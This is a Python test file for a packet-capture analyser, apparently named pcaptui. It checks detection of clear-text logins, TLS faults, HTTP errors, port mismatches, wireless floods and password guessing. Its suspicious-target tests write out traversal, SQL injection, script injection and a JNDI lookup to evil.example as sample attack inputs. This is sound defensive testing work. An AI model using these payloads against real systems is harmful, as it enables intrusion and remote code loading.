"""Logins, TLS, the web, attacks and ports in conversations made for it."""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID
from hypothesis import given
from hypothesis import strategies as st
from scapy.layers.dot11 import Dot11, Dot11AssoResp, Dot11Deauth, RadioTap

from pcaptui.findings import Finding, Severity, logins
from pcaptui.protocols.certificates import first_certificate, read

from .talks import CLIENT, SERVER, Timed, alert, answer, client_hello, get, post, record, server_hello, talk

Judge = Callable[..., list[Finding]]
MADE = datetime(2001, 9, 9, tzinfo=UTC)
"""When the judge's captures are made."""
FTP = (("s", b"220 here\r\n"), ("c", b"USER sam\r\n"), ("s", b"331 who\r\n"), ("c", b"PASS s3cret!\r\n"))


def coded(text: str) -> bytes:
    return base64.b64encode(text.encode())


# Logins.


def test_a_refused_ftp_login_says_so(judge: Judge) -> None:
    (found,) = judge(talk(21, *FTP, ("s", b"530 no\r\n")), "credentials")
    assert (found.severity, found.secrets, found.stream) == (Severity.warning, ("s3cret!",), "tcp:0")
    assert f"user sam and password {{0}} to {SERVER}:21" in found.detail
    assert "refused (530 no)" in found.detail
    assert found.packets == (4, 6, 7)


def test_many_logins_of_one_pair_are_one_finding(judge: Judge) -> None:
    packets: Timed = []
    for place in range(8):
        packets += talk(21, *FTP, ("s", b"530 no\r\n"), source=40000 + place, begin=place)
    (found,) = judge(packets, "credentials")
    assert "8 logins in all, with 1 user name: sam" in found.detail


def test_an_anonymous_ftp_login_is_a_note(judge: Judge) -> None:
    said = (("s", b"220 here\r\n"), ("c", b"USER anonymous\r\n"), ("s", b"331 m\r\n"), ("c", b"PASS me@here\r\n"))
    (found,) = judge(talk(21, *said), "credentials")
    assert (found.rule, found.severity) == ("credentials-anonymous", Severity.note)


@pytest.mark.parametrize(
    ("port", "protocol", "said"),
    [
        (110, "POP", [("s", b"+OK\r\n"), ("c", b"USER sam\r\n"), ("s", b"+OK\r\n"), ("c", b"PASS hush\r\n"),
                      ("s", b"+OK in\r\n")]),
        (25, "SMTP", [("s", b"220 m\r\n"), ("c", b"AUTH PLAIN " + coded("\0sam\0hush") + b"\r\n"),
                      ("s", b"235 in\r\n")]),
        (587, "SMTP", [("s", b"220 m\r\n"), ("c", b"AUTH LOGIN\r\n"), ("s", b"334 VXNlcg==\r\n"),
                       ("c", coded("sam") + b"\r\n"),
                       ("s", b"334 UGFzcw==\r\n"), ("c", coded("hush") + b"\r\n"), ("s", b"235 in\r\n")]),
        (143, "IMAP", [("s", b"* OK\r\n"), ("c", b'a1 LOGIN "sam" "hush"\r\n'), ("s", b"a1 OK in\r\n")]),
        (143, "IMAP", [("s", b"* OK\r\n"), ("c", b"a AUTHENTICATE PLAIN\r\n"), ("s", b"+\r\n"),
                       ("c", coded("\0sam\0hush") + b"\r\n"), ("s", b"a OK in\r\n")]),
    ],
)  # fmt: skip
def test_mail_logins(judge: Judge, port: int, protocol: str, said: list[tuple[str, bytes]]) -> None:
    (found,) = judge(talk(port, *said), "credentials")
    assert found.title == f"{protocol} user sam sends a password in clear text"
    assert found.secrets == ("hush",)
    assert "accepted" in found.detail


def test_a_telnet_login_typed_key_by_key(judge: Judge) -> None:
    keys = [("c", bytes([key])) for key in b"sam\r"] + [("s", b"\r\nPassword: ")]
    keys += [("c", bytes([key])) for key in b"huxx\x7f\x7fsh\r"]
    (found,) = judge(talk(23, ("s", b"\xff\xfd\x18host login: "), *keys), "credentials")
    assert (found.rule, found.secrets) == ("credentials-telnet", ("hush",))
    assert "user sam" in found.detail


def test_http_basic(judge: Judge) -> None:
    token = f"Authorization: Basic {coded('sam:hush').decode()}"
    (found,) = judge(talk(80, get("/", "web.example", token), answer()), "credentials")
    assert (found.rule, found.secrets) == ("credentials-basic", ("hush",))
    assert "the server accepted" in found.detail


def test_a_password_in_json(judge: Judge) -> None:
    body = b'{"username": "sam", "password": "hush"}'
    (found,) = judge(talk(80, post("/login", body, "application/json"), answer()), "credentials")
    assert (found.rule, found.secrets) == ("credentials-form", ("hush",))


def test_a_password_in_a_parameter_is_a_note_and_nowhere_shown(judge: Judge) -> None:
    found = judge(talk(80, get("/up?id=7&password=hush"), answer("404 Not Found")), "credentials", "http-")
    assert {one.rule: one.severity for one in found} == {
        "credentials-parameter": Severity.note, "http-error-4xx": Severity.note}  # fmt: skip
    assert not any("hush" in one.title + one.detail for one in found)


def test_a_form_without_password_is_nothing(judge: Judge) -> None:
    assert not judge(talk(80, post("/search", b"q=password&compass=north"), answer()), "credentials")


# TLS.


def certificate(name: str, days: int, issuer: str = "Some Authority") -> bytes:
    """Valid for 30 days that end `days` from when the captures are made."""
    key = ec.generate_private_key(ec.SECP256R1())
    called = [x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, text)]) for text in (name, issuer)]
    made = x509.CertificateBuilder(
        called[1], called[0], key.public_key(), 7, MADE + timedelta(days - 30), MADE + timedelta(days)
    )
    made = made.add_extension(x509.SubjectAlternativeName([x509.DNSName(name)]), critical=False)
    return made.sign(key, SHA256()).public_bytes(Encoding.DER)


def test_a_client_that_does_not_know_the_issuer(judge: Judge) -> None:
    said = (client_hello(), server_hello(0x0303, certificate("web.example", 9)), alert("c", 2, 48))
    (found,) = judge(talk(443, *said, end="fin"), "tls-")
    assert (found.rule, found.severity) == ("tls-alert", Severity.error)
    assert found.title == f"{CLIENT} ends TLS: Unknown CA"
    assert "right after the server's certificate" in found.detail
    assert "The connection was not used." in found.detail


def test_goodbyes_are_no_alerts(judge: Judge) -> None:
    assert not judge(talk(443, client_hello(), server_hello(), alert("s", 1, 0), alert("c", 1, 90)), "tls-")


def test_an_alert_behind_data_is_a_warning(judge: Judge) -> None:
    said = (client_hello(), server_hello(), ("c", record(23, bytes(40))), alert("s", 2, 20))
    (found,) = judge(talk(443, *said), "tls-")
    assert (found.rule, found.severity) == ("tls-alert", Severity.warning)


@pytest.mark.parametrize(("year", "severity"), [(2001, Severity.note), (2023, Severity.warning)])
def test_old_versions_are_judged_by_their_time(judge: Judge, year: int, severity: Severity) -> None:
    later = (year - 2001) * 365.25 * 86400
    (found,) = judge(talk(443, client_hello(), server_hello(0x0301), begin=later), "tls-")
    assert (found.rule, found.severity) == ("tls-old-version", severity)
    assert found.title == "TLS 1.0 is spoken by 1 server"


@pytest.mark.parametrize(
    ("name", "days", "issuer", "rules"),
    [
        ("web.example", 9, "Some Authority", []),
        ("*.example", 9, "Some Authority", []),
        ("web.example", -3, "Some Authority", ["tls-certificate-expired"]),
        ("web.example", 99, "Some Authority", ["tls-certificate-not-yet-valid"]),
        ("*.web.example", 9, "Some Authority", ["tls-certificate-name"]),
        ("web.example", 9, "web.example", ["tls-certificate-self-signed"]),
    ],
)
def test_certificates(judge: Judge, name: str, days: int, issuer: str, rules: list[str]) -> None:
    hello = server_hello(0x0303, certificate(name, days, issuer))
    assert [one.rule for one in judge(talk(443, client_hello(), hello), "tls-")] == rules


def test_an_expired_certificate_says_since_when(judge: Judge) -> None:
    (found,) = judge(talk(443, client_hello(), server_hello(0x0303, certificate("web.example", -3))), "tls-")
    assert "expired on 2001-09-06, 3 days before" in found.detail


def test_a_hello_that_nobody_answers(judge: Judge) -> None:
    (found,) = judge(talk(443, client_hello(), end="rst"), "tls-")
    assert (found.rule, found.severity) == ("tls-unanswered", Severity.warning)


def test_from_https_to_http(judge: Judge) -> None:
    packets = talk(443, client_hello(), server_hello()) + talk(80, get("/basket"), answer(), source=40001, begin=5)
    (found,) = judge(packets, "tls-")
    assert (found.rule, found.severity) == ("tls-left", Severity.note)
    assert "http://web.example/basket" in found.detail
    assert not judge(
        talk(80, get("/"), answer()) + talk(443, client_hello(), server_hello(), source=1, begin=5), "tls-"
    )


# The web.


def test_errors_of_a_server_are_one_finding_a_family(judge: Judge) -> None:
    said = [x for n in range(3) for x in (get(f"/{n}"), answer("500 Internal Server Error"))]
    broken, missing = judge(talk(80, *said, get("/x"), answer("404 Not Found")), "http-")
    assert (broken.rule, broken.severity) == ("http-error-5xx", Severity.warning)
    assert "answered 500 Internal Server Error to 3 requests" in broken.detail
    assert (missing.rule, missing.severity) == ("http-error-4xx", Severity.note)


def test_guessing_pages_is_a_warning(judge: Judge) -> None:
    said = [x for n in range(25) for x in (get(f"/guess{n}"), answer("404 Not Found"))]
    (found,) = judge(talk(80, *said), "http-")
    assert found.severity == Severity.warning


def test_a_chain_of_redirects_is_one_note(judge: Judge) -> None:
    said = (get("/"), answer("301 Moved", b"", "text/html", "Location: /a"), get("/a"),
            answer("302 Found", b"", "text/html", "Location: http://web.example/b"), get("/b"), answer())  # fmt: skip
    (found,) = judge(talk(80, *said), "http-")
    assert found.severity == Severity.note
    assert found.detail.startswith(
        "GET http://web.example/ → 301; GET http://web.example/a → 302; GET http://web.example/b"
    )


def test_a_redirect_to_https_says_so(judge: Judge) -> None:
    (found,) = judge(talk(80, get("/"), answer("301 M", b"", "text/html", "Location: https://web.example/")), "http-")
    assert "to https://web.example/ (over TLS)" in found.detail


def test_a_request_acknowledged_and_never_answered(judge: Judge) -> None:
    (found,) = judge(talk(80, get("/slow"), end="fin"), "http-")
    assert (found.rule, found.severity) == ("http-unanswered", Severity.warning)
    assert not judge(talk(80, get("/slow")), "http-")


# Attacks.


@pytest.mark.parametrize(
    ("target", "rule"),
    [
        ("/view?file=..%2f..%2f..%2fetc/passwd", "http-traversal"),
        ("/view?file=..%252f..%252fboot.ini", "http-traversal"),
        ("/item?id=7'+or+'1'='1", "http-sql"),
        ("/item?id=7%20UNION%20ALL%20SELECT%20name%20FROM%20users", "http-sql"),
        ("/find?q=%3Cscript%3Ealert(1)%3C/script%3E", "http-script"),
        ("/x?q=${jndi:ldap://evil.example/a}", "http-command"),
    ],
)
def test_suspicious_targets(judge: Judge, target: str, rule: str) -> None:
    (found,) = judge(talk(80, get(target), answer("403 Forbidden")), "http-t", "http-s", "http-c")
    assert (found.rule, found.severity) == (rule, Severity.warning)
    assert "status 403" in found.detail


@pytest.mark.parametrize("target", ["/select/union-station?from=here", "/o'brien?order=1", "/a/../b",
                                    "/q?t=it's+or+not",
                                    "/search?q=trade+union+select+committee+report", "/x?w=description"])  # fmt: skip
def test_harmless_targets(judge: Judge, target: str) -> None:
    assert not judge(talk(80, get(target), answer()), "http-")


def test_sql_in_a_form(judge: Judge) -> None:
    (found,) = judge(talk(80, post("/login", b"user=x'%20or%20'1'%3d'1"), answer()), "http-")
    assert found.rule == "http-sql"


PROGRAM = b"MZ" + bytes(76) + b"This program cannot be run in DOS mode."


@pytest.mark.parametrize(
    ("body", "kind", "rules"),
    [
        (PROGRAM, "image/jpeg", ["http-program-disguised"]),
        (PROGRAM, "application/x-msdownload", ["http-program"]),
        (b"\x7fELF\2\1\1" + bytes(60), "text/plain", ["http-program-disguised"]),
        (b"MZ is how this text begins", "text/plain", []),
        (bytes(60), "image/jpeg", []),
    ],
)
def test_programs(judge: Judge, body: bytes, kind: str, rules: list[str]) -> None:
    assert [one.rule for one in judge(talk(80, get("/cat.jpg"), answer("200 OK", body, kind)), "http-")] == rules


def test_one_session_from_two_addresses(judge: Judge) -> None:
    cookie = "Cookie: lang=en; PHPSESSID=0123456789abcdef"
    packets = talk(80, get("/", "web.example", cookie), answer())
    assert not judge(packets, "http-")
    (found,) = judge(
        packets + talk(80, get("/", "web.example", cookie), answer(), client="10.0.0.66", begin=3), "http-"
    )
    assert found.title == "10.0.0.66 uses the web session of 10.0.0.5"
    assert "0123456789abcdef" not in found.detail


# Ports.


@pytest.mark.parametrize(
    ("port", "said", "title"),
    [
        (443, FTP, f"Port 443 of {SERVER} carries FTP, not TLS"),
        (80, (client_hello(), server_hello()), f"Port 80 of {SERVER} carries TLS, not HTTP"),
        (53, (get("/"), answer()), f"Port 53 of {SERVER} carries HTTP, not DNS"),
        (443, (("s", b"SSH-2.0-x\r\n"), ("c", b"SSH-2.0-y\r\n")), f"Port 443 of {SERVER} carries SSH, not TLS"),
        (9000, (("s", b"SSH-2.0-x\r\n"), ("c", b"SSH-2.0-y\r\n")), f"Port 9000 of {SERVER} carries SSH"),
    ],
)
def test_strangers_on_ports(judge: Judge, port: int, said: tuple[tuple[str, bytes], ...], title: str) -> None:
    (found,) = judge(talk(port, *said), "port-")
    assert (found.title, found.severity) == (title, Severity.note)


@pytest.mark.parametrize(
    ("port", "said"),
    [
        (8080, (get("/"), answer())),
        (8443, (client_hello(), server_hello())),
        (21, FTP),
        (22, (("s", b"SSH-2.0-x\r\n"),)),
    ],
)
def test_protocols_at_home(judge: Judge, port: int, said: tuple[tuple[str, bytes], ...]) -> None:
    assert not judge(talk(port, *said), "port-")


# Wireless.


def test_a_refused_association(judge: Judge) -> None:
    head = RadioTap() / Dot11(type=0, subtype=1, addr1="02:00:00:00:00:05", addr2="02:00:00:00:00:01")
    (found,) = judge([(0, head / Dot11AssoResp(status=17))], "wireless-")
    assert (found.rule, found.severity) == ("wireless-association", Severity.error)
    assert "(status 17)" in found.detail


def test_a_flood_of_deauthentication(judge: Judge) -> None:
    one = (
        RadioTap()
        / Dot11(type=0, subtype=12, addr1="ff:ff:ff:ff:ff:ff", addr2="02:00:00:00:00:01")
        / Dot11Deauth(reason=7)
    )
    (found,) = judge([(n / 10, one.copy()) for n in range(50)], "wireless-")
    assert (found.rule, found.severity, len(found.packets)) == ("wireless-deauthentication", Severity.warning, 50)
    assert not judge([(n * 5, one.copy()) for n in range(50)], "wireless-")


# Hostile bytes.

SPOKEN = st.lists(st.tuples(st.booleans(), st.sampled_from(
    [b"USER a", b"PASS b", b"AUTH LOGIN", b"AUTH PLAIN AAAA", b"a LOGIN x y", b"a AUTHENTICATE LOGIN", b"230 x",
     b"login: ", b"Password:", b"a OK", b"\r", b"\xff\xfa", b"AHNhbQBodXNo"]
) | st.binary(max_size=30), st.integers(0, 9)), max_size=30)  # fmt: skip


@given(SPOKEN)
def test_no_dialogue_breaks_the_readers(said: list[tuple[bool, bytes, int]]) -> None:
    for reader in (logins.commands, logins.smtp, logins.imap, logins.telnet):
        for login in reader(said):
            assert len(login.user) <= 400
            assert login.packets


GOOD = certificate("web.example", 9)


@given(st.integers(0, len(GOOD) - 1), st.integers(0, 255), st.integers(0, len(GOOD)))
def test_no_certificate_breaks_the_reader(place: int, byte: int, cut: int) -> None:
    broken = bytearray(GOOD)
    broken[place] = byte
    for data in (bytes(broken), GOOD[:cut]):
        one = read(data)
        assert one is None or isinstance(one.names, tuple)


@given(st.binary(max_size=300))
def test_no_bytes_break_the_search_for_a_certificate(data: bytes) -> None:
    assert first_certificate(b"\x16\3\3" + data) is None or data


# What the web delivers, and how connections come about and end.


def test_an_answer_that_the_server_cuts_short_is_a_warning(judge: Judge) -> None:
    short = ("s", b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: 5000\r\n\r\n" + bytes(3000))
    (found,) = judge(talk(80, get("/logo.png"), short, end="fin"), "http-")
    assert (found.rule, found.severity, found.packets) == ("http-cut-short", Severity.warning, (3, 4))
    assert "announced 5 kB (Content-Length 5000)" in found.detail and "sent 3 kB of them" in found.detail


@pytest.mark.parametrize("status", ["200 OK", "304 Not Modified"])
def test_an_answer_that_is_whole_or_needs_no_body_is_not_cut_short(judge: Judge, status: str) -> None:
    said = answer(status) if status[0] == "2" else ("s", b"HTTP/1.1 304 Not Modified\r\nContent-Length: 900\r\n\r\n")
    assert judge(talk(80, get("/"), said, end="fin"), "http-") == []


def test_an_answer_that_is_still_coming_is_not_cut_short(judge: Judge) -> None:
    short = ("s", b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n" + bytes(3000))
    assert judge(talk(80, get("/logo.png"), short), "http-") == []


@pytest.mark.parametrize(("seconds", "severity"), [(2, None), (8, Severity.note), (20, Severity.warning)])
def test_an_object_that_crawls(judge: Judge, seconds: float, severity: Severity | None) -> None:
    packets = talk(80, get("/film"), answer(body=bytes(4000)))
    slow = packets[:-2] + [(at + seconds * (place + 1) / 2, one) for place, (at, one) in enumerate(packets[-2:])]
    found = judge(slow, "http-")
    assert [(one.rule, one.severity) for one in found] == ([("http-slow-object", severity)] if severity else [])


def test_a_second_handshake_is_no_connection_kept_open(judge: Judge) -> None:
    data = [("c", record(23, bytes(50))), ("s", record(23, bytes(300)))]
    once = talk(443, client_hello(), server_hello(), *data)
    again = talk(443, client_hello(), server_hello(), *data, source=40001, begin=20)
    assert judge([*once, *again], "tls-kept") == []
    kept = [*once, *((at + 20, one) for at, one in talk(443, client_hello(), server_hello(), *data, *data)[-2:])]
    (found,) = judge(kept, "tls-kept")
    assert found.severity is Severity.note and "sent data twice in 20" in found.detail


def test_tls_without_an_answer_is_told_only_after_a_while(judge: Judge) -> None:
    assert judge(talk(443, client_hello()), "tls-") == []
    late = [*talk(443, client_hello()), *talk(80, get("/"), answer(), source=40009, begin=9)]
    assert [one.rule for one in judge(late, "tls-")] == ["tls-unanswered"]


def test_a_goodbye_that_is_answered_by_rst_is_no_warning(judge: Judge) -> None:
    said = [("s", b"220 here\r\n"), ("c", b"NOOP\r\n"), ("s", b"200 ok\r\n"), ("c", b"QUIT\r\n")]
    assert [one.severity for one in judge(talk(21, *said, end="rst"), "tcp-reset")] == [Severity.note]
    assert [one.severity for one in judge(talk(21, *said[:2], end="rst"), "tcp-reset")] == [Severity.warning]


def test_many_different_passwords_that_are_refused_are_guesses(judge: Judge) -> None:
    packets: Timed = []
    for place in range(6):
        tried = (*FTP[:3], ("c", f"PASS guess{place}\r\n".encode()), ("s", b"530 no\r\n"))
        packets += talk(21, *tried, source=40000 + place, begin=place)
    (found,) = judge(packets, "credentials")
    assert found.title == f"{CLIENT} tries out FTP passwords at {SERVER}"
    assert "6 different passwords were refused" in found.detail and "can log in" not in found.detail
